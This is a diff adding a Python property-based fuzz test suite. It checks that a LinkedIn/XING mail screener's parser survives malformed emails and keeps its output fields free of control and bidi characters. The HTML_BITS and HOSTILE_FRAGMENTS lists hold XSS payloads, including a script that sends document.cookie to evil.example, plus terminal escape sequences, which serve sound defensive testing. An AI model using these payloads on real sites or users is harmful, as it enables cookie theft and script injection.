@@ -1,0 +1,556 @@
+"""Hardening, bad mail: >= 10 000 generated malformed mails per run never crash the parser.
+
+The property, for every generated mail: parse_mail returns a ParsedMail whose text fields
+are clean (no control characters except "\\n" in the note, no bidi controls, valid UTF-8,
+capped), or raises ParseError with a short reason - never anything else. The generators
+cover broken MIME boundaries, unknown and lying charsets, invalid quoted-printable and
+base64, missing or absurd headers (Date in year 99999, 10 000-character Subject, NUL bytes),
+deeply nested multiparts, huge parts, HTML with scripts and entities, zero-width and bidi
+characters in names and notes, and LinkedIn/XING mails with mutated bodies.
+
+A scan over a Maildir with unreadable mails records each with its reason, goes on, and
+reports them in the summary and the exit code (3).
+
+CASES counts the mails actually tried; the last test checks the total (RELIABILITY.md
+quotes it).
+"""
+
+from __future__ import annotations
+
+import base64
+import os
+import quopri
+import shutil
+import unicodedata
+from collections import Counter
+from datetime import datetime, timezone
+from email.message import EmailMessage
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from screener.models import MailKind, ParsedMail, RawMail
+from screener.parse import ParseError, parse_mail
+from screener.parse.clean import HEADLINE_MAX, NAME_MAX, NOTE_MAX, SUBJECT_MAX
+
+MAIL = Path(__file__).parent / "data" / "mail"
+FIXTURES = sorted(MAIL.glob("*.eml"))
+FIXTURE_BYTES = [p.read_bytes() for p in FIXTURES]
+PLATFORM_FIXTURES = [p.read_bytes() for p in FIXTURES if p.name.startswith(("linkedin-invite", "xing-request",
+                                                                            "linkedin-reminder", "xing-message"))]
+SAMPLE = Path(__file__).parent.parent / "screener" / "data" / "sample-inbox"
+
+CASES: Counter[str] = Counter()
+# max_examples per property; their sum is the promise in RELIABILITY.md (>= 10 000 per run)
+BUDGET = {
+    "single_part": 2600,
+    "multipart": 1800,
+    "html": 1300,
+    "platform_mutations": 2500,
+    "absurd_headers": 1300,
+    "deep_nesting": 150,
+    "raw_garbage": 400,
+    "huge_parts": 30,
+}
+assert sum(BUDGET.values()) >= 10_000
+
+HEALTH = [HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.filter_too_much,
+          HealthCheck.large_base_example]
+
+
+def budget(name: str):
+    return settings(max_examples=BUDGET[name], deadline=None, suppress_health_check=HEALTH, derandomize=False)
+
+
+# -- the property --------------------------------------------------------------------------------------------
+
+BIDI = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
+ZERO_WIDTH_NAME = set("\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e")
+
+
+def _clean_line(value: str, field: str, cap: int | None) -> None:
+    assert isinstance(value, str), field
+    value.encode("utf-8")  # strict: no lone surrogates (SQLite and JSON would choke on them)
+    bad = [c for c in value if unicodedata.category(c) == "Cc" or c in BIDI]
+    assert not bad, f"{field} carries control/bidi characters {bad!r}: {value[:120]!r}"
+    assert value == value.strip() or not value.strip(), f"{field} not trimmed: {value[:80]!r}"
+    if cap is not None:
+        assert len(value) <= cap, f"{field} longer than {cap}: {len(value)}"
+
+
+def check_parsed(p: ParsedMail) -> None:
+    assert isinstance(p, ParsedMail) and isinstance(p.kind, MailKind)
+    for field, cap in (("sender_name", NAME_MAX), ("sender_headline", HEADLINE_MAX), ("subject", SUBJECT_MAX),
+                       ("recipient_name", NAME_MAX), ("profile_url", 2000), ("message_id", 1000), ("layout", None)):
+        _clean_line(getattr(p, field), field, cap)
+    assert not ZERO_WIDTH_NAME & set(p.sender_name), repr(p.sender_name)
+    assert p.message_id.startswith("<") and p.message_id.endswith(">") and " " not in p.message_id
+    note = p.note
+    assert isinstance(note, str)
+    note.encode("utf-8")
+    bad = [c for c in note if (unicodedata.category(c) == "Cc" and c != "\n") or c in BIDI]
+    assert not bad, f"note carries control/bidi characters {bad!r}: {note[:120]!r}"
+    assert len(note) <= NOTE_MAX
+    assert p.received is None or (isinstance(p.received, datetime) and p.received.tzinfo is not None)
+    if not p.kind.is_request and not p.kind.is_message:
+        assert not p.sender_name and not note
+
+
+def tried(name: str, data: bytes, internaldate: datetime | None = None) -> ParsedMail | None:
+    """The contract for any bytes: a clean ParsedMail, or ParseError with a short reason."""
+    CASES[name] += 1
+    raw = RawMail(source="hypothesis", key=name, data=data, size=len(data), internaldate=internaldate)
+    try:
+        parsed = parse_mail(raw)
+    except ParseError as exc:
+        reason = str(exc)
+        assert reason and len(reason) < 200 and "\n" not in reason
+        return None
+    check_parsed(parsed)
+    return parsed
+
+
+# -- building blocks -------------------------------------------------------------------------------------------
+
+HOSTILE_FRAGMENTS = [
+    "\x1b[2J", "\x1b[31m", "\x1b[0m", "\x1b]0;pwned\x07", "\x1b]8;;https://evil.example\x1b\\", "\x1b]8;;\x1b\\",
+    "\x1bP+q\x1b\\", "\x9b31m", "\x1b", "\r", "\x08", "\x07", "\x00", "\x7f", "\x85", "\x0b", "\x0c", "\t",
+    "\u202e", "\u202d", "\u202a", "\u2066", "\u2069", "\u200e", "\u200f", "\u061c",
+    "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u034f", "\u180e", "\u2028", "\u2029",
+    "[bold red]x[/]", "[link=https://evil.example]click[/link]", "<script>alert(1)</script>", "&amp;", "&#0;",
+    "&#x110000;", "&#xD800;", "&nbsp;", "\U0001F600", "e\u0301", "\uFFFD", "\ud800", "\udcff",
+]
+WORDS = ["Hi", "Jana", "Grüße", "aus", "Köln", "I", "enjoyed", "your", "talk", "on", "mail", "filters", "Max",
+         "Muster", "CTO", "at", "Example", "GmbH", "View profile:", "https://www.linkedin.com/in/max-muster",
+         "=> https://www.xing.com/m/abc", "Accept:", "Lukas", "möchte", "sich", "mit", "Dir", "vernetzen", "„", "“",
+         "—", "ß", "日本", "مرحبا", "עברית"]
+
+fragment = st.one_of(st.sampled_from(WORDS), st.sampled_from(HOSTILE_FRAGMENTS),
+                     st.text(max_size=12), st.sampled_from([" ", "\n", "\n\n", "\r\n"]))
+hostile_text = st.lists(fragment, max_size=40).map("".join)
+hostile_line = st.lists(fragment, max_size=12).map(lambda xs: "".join(xs))
+
+# Charset labels seen in the wild (../shared/research/anchors.md §5.1) plus plain nonsense.
+CHARSET_LABELS = ["utf-8", "UTF-8", "us-ascii", "iso-8859-1", "latin-1", "windows-1252", "cp1252", "utf-16",
+                  "utf-16-le", "utf-32", "utf-7", "unicode-1-1-utf-7", "x-unknown", "unknown", "uft-8",
+                  "utf-8  euao6y69zh2w", "", "1", "iso-8859-8-i", "windows-874", "cp-850", "koi8-r", "gb2312",
+                  "shift_jis", "euc-kr", "big5", "x-mac-roman", '"utf-8"', "utf-8\x00evil", "ascii; format=flowed",
+                  "a" * 300, "rot13", "base64", "idna", "punycode", "undefined", "x-user-defined", "hz"]
+# What the bytes really are (often not what the label says).
+REAL_ENCODINGS = ["utf-8", "latin-1", "cp1252", "utf-16", "utf-16-le", "utf-32", "utf-7", "koi8-r",
+                  "shift_jis", "utf-8-surrogatepass"]
+CTES = ["", "7bit", "8bit", "binary", "base64", "quoted-printable", "BASE64", "Quoted-Printable", "x-uuencode",
+        "uuencode", "x-garbage", "base64; junk", "quoted-printable\x00"]
+
+
+def encode_text(text: str, real: str) -> bytes:
+    if real == "utf-8-surrogatepass":
+        return text.encode("utf-8", "surrogatepass")
+    return text.encode(real, "replace") if real != "utf-7" else text.encode("utf-7", "surrogatepass")
+
+
+def apply_cte(body: bytes, cte: str, corrupt: int) -> bytes:
+    name = cte.lower().split(";")[0].strip("\x00")
+    if name == "base64":
+        out = base64.encodebytes(body)
+        if corrupt == 1:
+            out = out.replace(b"A", b"!", 3)[:-3]  # invalid alphabet, cut padding
+        elif corrupt == 2:
+            out = b"!!!not base64!!!\n" + out[1:]
+        elif corrupt == 3:
+            out = out[: len(out) // 2]  # truncated mid-quantum
+        return out
+    if name == "quoted-printable":
+        out = quopri.encodestring(body)
+        if corrupt == 1:
+            out += b"=ZZ=\n=" + b"=E" + b"=\r\n" * 3
+        elif corrupt == 2:
+            out = out.replace(b"=", b"=G", 5)
+        elif corrupt == 3:
+            out = out.rstrip() + b"="
+        return out
+    return body
+
+
+def header_value(draw, text: str, mode: int) -> bytes:
+    """A header value: plain, raw 8-bit, RFC 2047 with a (maybe bogus) charset, or broken encoded-words."""
+    if mode == 0:
+        return text.encode("utf-8", "surrogatepass")
+    if mode == 1:
+        return text.encode("latin-1", "replace")
+    label = draw(st.sampled_from(CHARSET_LABELS + ["utf-8"] * 4))
+    if mode == 2:
+        payload = base64.b64encode(text.encode("utf-8", "surrogatepass")).decode()
+        return f"=?{label}?B?{payload}?=".encode("ascii", "replace")
+    if mode == 3:
+        payload = quopri.encodestring(text.encode("utf-8", "surrogatepass"), header=True).decode("ascii", "replace")
+        return f"=?{label}?Q?{payload}?=".encode("ascii", "replace")
+    broken = draw(st.sampled_from(["=?utf-8?B?////?=", "=?utf-8?Q?=ZZ?=", "=?x-bogus?q?x?=", "=?utf-8?X?abc?=",
+                                   "=?", "=?utf-8?B?", "?=", "=?utf-8*de?Q?J=FCrgen?=", "=?utf-8?B?" + "A" * 999]))
+    return broken.encode() + b" " + text.encode("utf-8", "replace")
+
+
+FROMS = ["invitations@linkedin.com", "messages-noreply@linkedin.com", "mailrobot@mail.xing.com", "xing.com",
+         "news@shop.example", "invitations@linkedin.com.evil.example", "", "<<<>>>@@@", "@", "a@", "@linkedin.com",
+         "invitations@LINKEDIN.COM.", "x@xing.com"]
+DATES = ["Mon, 01 Jan 2024 00:00:00 +0000", "Fri, 31 Dec 99999 23:59:59 +0000", "Tue, 32 Feb 2024 25:61:61 +9999",
+         "yesterday", "", "0", "Mon, 01 Jan 0000 00:00:00 +0000", "Thu, 01 Jan 1970 00:00:00 -2400",
+         "Sat, 01 Jan 10000 00:00:00 +0000", "1" * 500, "Mon, 01 Jan 2024 00:00:00", "Mon, 1 Jan 24 0:0:0 GMT",
+         "\x00\x00", "Mon, 01 Jan 2024 00:00:00 +0000 (CET)\x1b[2J"]
+
+
+@st.composite
+def headers(draw, *, content_type: bytes | None = None, cte: str | None = None) -> bytes:
+    lines: list[bytes] = []
+    sender = draw(st.sampled_from(FROMS))
+    if draw(st.integers(0, 9)):
+        name = header_value(draw, draw(hostile_line), draw(st.integers(0, 4)))
+        lines.append(b"From: " + name + b" <" + sender.encode() + b">")
+    if draw(st.integers(0, 9)):
+        subject = draw(st.one_of(hostile_line, st.sampled_from(["I want to connect", "Kontaktanfrage von Max",
+                                                               "Jana, please add me to your LinkedIn network"]),
+                                 st.integers(5000, 12000).map(lambda n: "S" * n)))
+        lines.append(b"Subject: " + header_value(draw, subject, draw(st.integers(0, 4))))
+    if draw(st.integers(0, 3)):
+        lines.append(b"Date: " + draw(st.sampled_from(DATES)).encode("latin-1"))
+    mid = draw(st.sampled_from(["<ok@x>", "", "no-brackets", "<>", "< spaced id >", "<" + "m" * 2000 + ">",
+                                "<a@b> <c@d>", "\x00<nul@x>", None]))
+    if mid is not None:
+        lines.append(b"Message-ID: " + mid.encode("latin-1"))
+    if draw(st.booleans()):
+        lines.append(b"X-LinkedIn-Class: " + draw(st.sampled_from([b"INVITE-MBR", b"INVITE-REMINDER", b"MSG", b"\x00"])))
+    if content_type is not None:
+        lines.append(b"Content-Type: " + content_type)
+    if cte:
+        lines.append(b"Content-Transfer-Encoding: " + cte.encode("latin-1"))
+    draw(st.randoms()).shuffle(lines)
+    return b"\n".join(lines)
+
+
+def single_part_mail(draw, subtype: str = "plain", body_text: str | None = None) -> bytes:
+    label = draw(st.sampled_from(CHARSET_LABELS))
+    real = draw(st.sampled_from(REAL_ENCODINGS))
+    cte = draw(st.sampled_from(CTES))
+    corrupt = draw(st.integers(0, 3))
+    text = body_text if body_text is not None else draw(hostile_text)
+    body = apply_cte(encode_text(text, real), cte, corrupt)
+    ct = f'text/{subtype}; charset="{label}"'.encode("latin-1", "replace")
+    if draw(st.integers(0, 5)) == 0:
+        ct = draw(st.sampled_from([b"text/plain; charset", b"text/plain;;;charset==", b"garbage", b"",
+                                   b"text/plain; charset*=utf-8''%FF%FE", b"text/plain; charset=\"\\\"\""]))
+    sep = draw(st.sampled_from([b"\n\n", b"\r\n\r\n", b"\n", b"\n \n"]))
+    return draw(headers(content_type=ct, cte=cte)) + sep + body
+
+
+# -- the properties --------------------------------------------------------------------------------------------
+
+
+@budget("single_part")
+@given(st.data())
+def test_single_part_with_lying_charsets_and_broken_encodings(data):
+    tried("single_part", single_part_mail(data.draw))
+
+
+@st.composite
+def leaf(draw) -> tuple[bytes, bytes]:
+    subtype = draw(st.sampled_from(["plain", "html", "plain", "calendar", "x-unknown"]))
+    label = draw(st.sampled_from(CHARSET_LABELS))
+    cte = draw(st.sampled_from(CTES))
+    text = draw(hostile_text)
+    if subtype == "html":
+        text = f"<html><body><p>{text}</p><script>alert(1)</script></body></html>"
+    body = apply_cte(encode_text(text, draw(st.sampled_from(REAL_ENCODINGS))), cte, draw(st.integers(0, 3)))
+    head = f'Content-Type: text/{subtype}; charset="{label}"\n'.encode("latin-1", "replace")
+    if cte:
+        head += f"Content-Transfer-Encoding: {cte}\n".encode("latin-1")
+    if draw(st.integers(0, 4)) == 0:
+        head += b"Content-Disposition: attachment; filename=\"\x1b[2J.txt\"\n"
+    if draw(st.integers(0, 6)) == 0:
+        head = b""  # a part without headers
+    return head, body
+
+
+def _multipart(draw, children: list[tuple[bytes, bytes]]) -> tuple[bytes, bytes]:
+    boundary = draw(st.sampled_from(["b1", "=_boundary", "a", "with space", '"quoted"', "", "x" * 80, "--",
+                                     "b\x00", "ÄÖÜ"]))
+    declared = boundary if draw(st.integers(0, 4)) else draw(st.sampled_from(["other", "", "b1"]))
+    subtype = draw(st.sampled_from(["mixed", "alternative", "related", "digest", "x-weird"]))
+    head = f'Content-Type: multipart/{subtype}; boundary="{declared}"\n'.encode("utf-8", "replace")
+    if draw(st.integers(0, 8)) == 0:
+        head = f"Content-Type: multipart/{subtype}\n".encode()  # no boundary at all
+    delim = f"--{boundary}".encode("utf-8", "replace")
+    body = draw(st.sampled_from([b"", b"preamble\n", b"--" * 30 + b"\n"]))
+    for h, b in children:
+        body += delim + b"\n" + h + b"\n" + b + b"\n"
+    ending = draw(st.integers(0, 3))
+    if ending == 0:
+        body += delim + b"--\n"
+    elif ending == 1:
+        body += delim + b"--\nepilogue " + delim + b"\n"
+    elif ending == 2:
+        body += delim  # closing delimiter cut off
+    return head, body  # ending 3: never closed
+
+
+@st.composite
+def multipart_node(draw, kids):
+    return _multipart(draw, draw(st.lists(kids, max_size=4)))
+
+
+multipart_tree = st.recursive(leaf(), multipart_node, max_leaves=12)
+
+
+@budget("multipart")
+@given(st.data())
+def test_multipart_with_broken_boundaries(data):
+    head, body = data.draw(multipart_tree)
+    top = data.draw(headers())
+    tried("multipart", top + b"\nMIME-Version: 1.0\n" + head + b"\n" + body)
+
+
+HTML_BITS = ["<script>document.location='https://evil.example/'+document.cookie</script>", "<script >x</script >",
+             "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<style>*{display:none}</style>", "<!-- comment -->",
+             "<!--", "<![CDATA[ x ]]>", "<img src=x onerror=alert(1)>", "<a href='javascript:alert(1)'>x</a>",
+             "<iframe src=https://evil.example>", "&lt;script&gt;", "&amp;amp;", "&#27;[2J", "&#x1b;]0;t&#7;",
+             "&#8238;", "&#x202E;", "&#0;", "&#x110000;", "&#xD800;", "&#99999999999;", "&nbsp;&shy;&zwj;",
+             "&bogus;", "&", "<table><tr><td>", "</td></tr></table>", "<br>", "<p>", "</p>", "<div>" * 50,
+             "</div>" * 50, "<b>Max Muster</b>", "<h3>", "<<>>", "<a href=\"https://www.linkedin.com/comm/in/x\">",
+             "</a>", "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<base href=//evil.example/>",
+             "<svg onload=alert(1)>", "<math><mi>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+             "<template>x</template>", "\x00", "<x y='"]
+
+
+@budget("html")
+@given(st.data())
+def test_html_with_scripts_entities_and_broken_markup(data):
+    bits = data.draw(st.lists(st.one_of(st.sampled_from(HTML_BITS), hostile_line), max_size=40))
+    html = "".join(bits)
+    if data.draw(st.booleans()):
+        html = f"<html><head><title>{data.draw(hostile_line)}</title></head><body>{html}</body></html>"
+    parsed = tried("html", single_part_mail(data.draw, "html", html))
+    if parsed is not None:
+        for field in (parsed.sender_name, parsed.sender_headline, parsed.note):
+            assert "<script" not in field.lower() or "script" in html.replace("<script", "", 1).lower()
+
+
+# LinkedIn and XING mails from the fixtures with mutated bodies: lines dropped, doubled, swapped, or
+# replaced/extended with hostile text, header bytes flipped, the message cut.
+
+
+@budget("platform_mutations")
+@given(st.sampled_from(PLATFORM_FIXTURES), st.data())
+def test_linkedin_and_xing_mails_with_mutated_bodies(original, data):
+    head, _, body = original.partition(b"\n\n")
+    lines = body.split(b"\n")
+    for _ in range(data.draw(st.integers(1, 6))):
+        op = data.draw(st.integers(0, 6))
+        i = data.draw(st.integers(0, max(0, len(lines) - 1)))
+        hostile = data.draw(hostile_line).encode(data.draw(st.sampled_from(["utf-8", "latin-1"])), "replace")
+        if op == 0 and lines:
+            del lines[i]
+        elif op == 1 and lines:
+            lines.insert(i, lines[i])
+        elif op == 2:
+            lines.insert(i, hostile)
+        elif op == 3 and lines:
+            lines[i] = lines[i] + hostile
+        elif op == 4 and len(lines) > 1:
+            j = data.draw(st.integers(0, len(lines) - 1))
+            lines[i], lines[j] = lines[j], lines[i]
+        elif op == 5:
+            lines.insert(i, data.draw(st.sampled_from([b"=", b"=ZZ", b"--", b"\x00" * 10, b"=E2=80=AE", b"=1B[2J",
+                                                       b"Content-Type: text/html", b".....", b"-" * 40])))
+        else:
+            lines = lines[: max(1, i)]
+    if data.draw(st.integers(0, 4)) == 0:
+        head = head.replace(b"charset=\"utf-8\"", data.draw(st.sampled_from(
+            [b"charset=\"x-unknown\"", b"charset=utf-16", b"charset=\"\"", b"charset=us-ascii"])))
+    if data.draw(st.integers(0, 5)) == 0:
+        head = head.replace(b"quoted-printable", b"base64")
+    tried("platform_mutations", head + b"\n\n" + b"\n".join(lines))
+
+
+@budget("absurd_headers")
+@given(st.data())
+def test_missing_and_absurd_headers(data):
+    pieces = []
+    for _ in range(data.draw(st.integers(0, 25))):
+        name = data.draw(st.sampled_from(["From", "Subject", "Date", "Message-ID", "Content-Type", "To", "Sender",
+                                          "Reply-To", "X-LinkedIn-Class", "Content-Transfer-Encoding", "MIME-Version",
+                                          "Received", "From ", " From", "Fr\x00om", "", ":", "X-" + "h" * 300]))
+        value = data.draw(st.one_of(
+            st.sampled_from(DATES + FROMS + ["multipart/mixed", "text/html; charset=utf-7", "base64",
+                                             "=?utf-8?B?////?=", "\x00" * 50, "a\n\tfolded\n continued",
+                                             "=?x?q?" + "=00" * 200 + "?=", "Z" * 10_000])
+            , hostile_line))
+        pieces.append(f"{name}: {value}".encode("utf-8", "surrogatepass"))
+    body = data.draw(hostile_text).encode("utf-8", "surrogatepass")
+    sep = data.draw(st.sampled_from([b"\n", b"\r\n", b"\r", b"\x00"]))
+    internaldate = data.draw(st.sampled_from([None, datetime(2024, 1, 1), datetime(1, 1, 1, tzinfo=timezone.utc)]))
+    tried("absurd_headers", sep.join(pieces) + sep * 2 + body, internaldate)
+
+
+@budget("deep_nesting")
+@given(st.integers(20, 3000), st.booleans(), st.booleans())
+def test_deeply_nested_multiparts(depth, same_boundary, closed):
+    head = b"From: Max <invitations@linkedin.com>\nSubject: I want to connect\n"
+    parts = [b"Content-Type: multipart/mixed; boundary=\"%s\"\n\n" % (b"a" if same_boundary else b"b%d" % i)
+             for i in range(depth)]
+    body = b""
+    for i, part in enumerate(parts):
+        body += (b"--a\n" if same_boundary else b"--b%d\n" % (i - 1) if i else b"") + part
+    body += b"--a\nContent-Type: text/plain\n\nHi Jana,\n\ndeep\n"
+    if closed:
+        for i in reversed(range(depth)):
+            body += b"--a--\n" if same_boundary else b"--b%d--\n" % i
+    tried("deep_nesting", head + body)
+
+
+@budget("raw_garbage")
+@given(st.binary(max_size=3000), st.sampled_from([b"", b"From: x@linkedin.com\n", b"Subject: \x00\n\n",
+                                                 b"From: invitations@linkedin.com\nContent-Type: multipart/mixed; "
+                                                 b"boundary=x\n\n--x\n"]))
+def test_raw_garbage_behind_plausible_headers(data, prefix):
+    tried("raw_garbage", prefix + data)
+
+
+@budget("huge_parts")
+@given(st.integers(200_000, 3_000_000), st.sampled_from(["plain", "html", "base64", "lines"]), st.data())
+def test_huge_parts(size, shape, data):
+    filler = data.draw(st.sampled_from(["A", "Grüße ", "\u202e\x1b[2J", "<div>", "&amp;", "word\n"]))
+    text = (filler * (size // len(filler) + 1))[:size]
+    head = b"From: Big <invitations@linkedin.com>\nSubject: I want to connect\nMIME-Version: 1.0\n"
+    if shape == "plain":
+        mail = head + b"Content-Type: text/plain; charset=utf-8\n\nHi Jana,\n\n" + text.encode()
+    elif shape == "html":
+        mail = head + b"Content-Type: text/html; charset=utf-8\n\n<p>" + text.encode() + b"</p>"
+    elif shape == "base64":
+        mail = (head + b"Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
+                + base64.encodebytes(text.encode()))
+    else:
+        mail = head + b"Content-Type: text/plain\n\n" + ("x\n" * (size // 2)).encode()
+    tried("huge_parts", mail)
+
+
+def test_mail_over_the_hard_size_cap_is_refused_with_a_reason():
+    with pytest.raises(ParseError, match="too large"):
+        parse_mail(RawMail("t", "k", b"From: a@linkedin.com\n\n" + b"x" * (26 * 1024 * 1024)))
+
+
+def test_hostile_fixture_fields_are_clean_and_the_checker_can_fail():
+    # the checker itself must reject what it is meant to find
+    bad = ParsedMail(kind=MailKind.LINKEDIN_INVITATION, platform=None, message_id="<x>", sender_name="a\x1b[2Jb")
+    with pytest.raises(AssertionError):
+        check_parsed(bad)
+    with pytest.raises(AssertionError):
+        check_parsed(ParsedMail(kind=MailKind.LINKEDIN_INVITATION, platform=None, message_id="<x>",
+                                note="ok\u202eok"))
+    with pytest.raises(UnicodeEncodeError):
+        check_parsed(ParsedMail(kind=MailKind.LINKEDIN_INVITATION, platform=None, message_id="<x>",
+                                sender_headline="\ud800"))
+    assert tried("fixtures", (MAIL / "linkedin-invite-hostile.eml").read_bytes()) is not None
+
+
+def test_cases_tried_add_up_to_ten_thousand():
+    """Runs last in this file: the figure RELIABILITY.md quotes. Skipped when only some tests were selected."""
+    missing = [name for name in BUDGET if CASES[name] == 0]
+    if missing:
+        pytest.skip(f"not all generators ran in this session: {missing}")
+    total = sum(CASES[name] for name in BUDGET)
+    print(f"\nhardening: {total} generated mails tried: {dict(CASES)}")
+    out = os.environ.get("SCREENER_HARDENING_FIGURES")
+    if out:
+        Path(out).write_text(f"{total}\n{dict(CASES)}\n")
+    assert total >= 10_000, dict(CASES)
+
+
+# -- a scan over unreadable mail --------------------------------------------------------------------------------
+
+
+def _invite(n: int) -> bytes:
+    m = EmailMessage()
+    m["From"] = f"Person Number{n} via LinkedIn <invitations@linkedin.com>"
+    m["Subject"] = "I want to connect"
+    m["Message-ID"] = f"<hardening-{n}@linkedin.example>"
+    m["Date"] = f"Mon, {n:02d} Mar 2026 09:00:00 +0000"
+    m.set_content(f"Hi Jana,\n\nWe met at the privacy meetup number {n}.\n\nPerson Number{n}\nEngineer at Example\n\n"
+                  f"View profile: https://www.linkedin.com/comm/in/person-{n}\n")
+    return m.as_bytes()
+
+
+UNREADABLE = {
+    "1800000001.M1P1.empty:2,S": b"",
+    "1800000002.M2P1.blank:2,S": b"\r\n\r\n   \n",
+    "1800000003.M3P1.binary:2,S": bytes(range(256)) * 8,
+    "1800000004.M4P1.noheaders:2,S": b"just some text without any header line at all\n",
+}
+
+
+def test_scan_records_every_unreadable_mail_and_goes_on(tmp_path, monkeypatch):
+    from screener.cli import cli
+    from screener.store import Store
+
+    monkeypatch.setenv("SCREENER_HOME", str(tmp_path / "home"))
+    monkeypatch.delenv("SCREENER_CONFIG", raising=False)
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
+    md = tmp_path / "md"
+    for sub in ("cur", "new", "tmp"):
+        (md / sub).mkdir(parents=True)
+    # good and bad mails interleaved: the bad ones must not stop the ones after them
+    for n in range(1, 6):
+        (md / "cur" / f"17000000{n:02d}.M{n}P1.good:2,S").write_bytes(_invite(n))
+        (md / "new" / f"19000000{n:02d}.M{n}P1.good").write_bytes(_invite(10 + n))
+    for name, data in UNREADABLE.items():
+        (md / "cur" / name).write_bytes(data)
+    (md / "cur" / "1800000005.M5P1.dangling:2,S").symlink_to(tmp_path / "gone")  # listed, cannot be opened
+    (md / "cur" / "1800000006.M6P1.adir:2,S").mkdir()  # a folder where a message should be
+
+    res = CliRunner().invoke(cli, ["scan", "--maildir", str(md)], catch_exceptions=False)
+    assert res.exit_code == 3, res.output
+    assert "10 new requests" in res.output and "6 skipped" in res.output and "6 errors" in res.output
+    assert "Traceback" not in res.output and "internal error" not in res.output
+    with Store(tmp_path / "home" / "screener.db") as s:
+        assert s.count() == 10
+        skipped = {row["source_key"]: row["reason"] for row in s.skipped()}
+    assert set(skipped) == {k.split(":")[0] for k in UNREADABLE} | {"1800000005.M5P1.dangling",
+                                                                    "1800000006.M6P1.adir"}
+    assert all(reason.strip() for reason in skipped.values())
+    assert skipped["1800000001.M1P1.empty"] == "unreadable: empty mail"
+    assert "cannot read" in skipped["1800000005.M5P1.dangling"]
+
+    again = CliRunner().invoke(cli, ["scan", "--maildir", str(md)], catch_exceptions=False)
+    assert again.exit_code == 3 and "0 new requests" in again.output and "10 known" in again.output
+    with Store(tmp_path / "home" / "screener.db") as s:
+        assert s.count() == 10 and len(s.skipped()) == 6  # recorded once, not once per scan
+
+
+def test_pipeline_counts_unreadable_mail_in_the_report(tmp_path):
+    from screener.guide import default_guide_dir, load_guide
+    from screener.pipeline import scan
+    from screener.store import Store
+
+    class ListSource:
+        name = "list:test"
+
+        def __init__(self, mails):
+            self._mails = mails
+            self.committed = []
+
+        def mails(self):
+            for i, data in enumerate(self._mails):
+                yield RawMail(self.name, str(i), data, len(data))
+
+        def commit(self, key):
+            self.committed.append(key)
+
+    src = ListSource([_invite(1), b"", bytes(range(256)), _invite(2), b"\x00" * 100])
+    with Store(tmp_path / "s.db") as store:
+        report = scan([src], store, load_guide(default_guide_dir()))
+        assert (report.seen, report.requests_new, report.skipped, len(report.errors)) == (5, 2, 3, 3)
+        assert all(e.startswith("list:test ") for e in report.errors)
+        assert [r["source_key"] for r in store.skipped()] == ["1", "2", "4"]
+    # every mail was handled, so an incremental source may move past each (none is re-fetched forever)
+    assert src.committed == ["0", "1", "2", "3", "4"]
